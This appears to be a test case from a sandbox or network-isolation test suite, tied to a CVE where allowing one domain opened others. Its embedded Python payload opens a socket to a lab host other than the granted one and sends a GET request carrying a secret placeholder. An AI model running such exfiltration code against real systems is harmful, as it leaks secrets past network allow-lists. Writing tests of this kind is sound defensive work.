"""sends a secret to another host than the granted one, at the same port"""

from evidence import secret_left as succeeded

SHAPE = "CVE-2026-24052: an allowed domain opened others"
PROMISE = "P23"
LAB = True
WALLS = "network-names,network-addresses"
OPTIONS = {"hosts": ["api.rwlab.net:80"]}
PYTHON = """
import socket
with socket.create_connection(("www.rwlab.net", 80), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: www.rwlab.net\\r\\n\\r\\n")
    line.recv(999)
"""
